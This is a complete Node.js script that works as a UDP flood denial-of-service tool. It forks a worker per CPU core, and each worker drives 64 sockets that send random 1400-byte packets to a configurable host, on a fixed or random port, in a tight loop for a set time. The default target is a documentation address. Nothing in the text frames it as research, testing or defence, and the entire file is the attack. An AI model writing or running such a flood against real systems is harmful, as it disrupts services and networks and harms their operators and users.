const dgram = require('dgram');
const cluster = require('cluster');
const os = require('os');
const crypto = require('crypto');

const [host = '203.0.113.80', port = '0', secs = '600'] = process.argv.slice(2);

if (cluster.isPrimary) {
  os.cpus().forEach(() => cluster.fork());
  setTimeout(() => process.exit(), Number(secs) * 1000);
} else {
  const socks = Array.from({ length: 64 }, () => dgram.createSocket('udp4'));
  const buf = crypto.randomBytes(1400);
  const blast = () => {
    for (const s of socks) s.send(buf, Number(port) || 1 + Math.floor(Math.random() * 65534), host);
    setImmediate(blast);
  };
  blast();
}
